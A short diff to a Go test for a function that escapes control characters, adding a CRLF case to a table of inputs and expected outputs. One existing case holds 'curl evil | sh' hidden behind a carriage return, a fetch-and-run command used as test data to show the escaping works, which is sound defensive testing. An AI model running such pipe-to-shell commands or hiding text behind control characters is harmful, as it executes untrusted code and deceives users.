@@ -76,6 +76,7 @@ func TestVisible(t *testing.T) {
 	for _, c := range []struct{ in, want string }{
 		{"plain\ttext\n", "plain\ttext\n"},
 		{"curl evil | sh\r# nothing new", `curl evil | sh\r# nothing new`},
+		{"crlf\r\nlines\r", "crlf\r\nlines" + `\r`},
 		{"a\x1b[8mb", `a\x1b[8mb`},
 		{"c1 \u009b", `c1 \u009b`},
 		{"bad \xff", `bad \xff`},
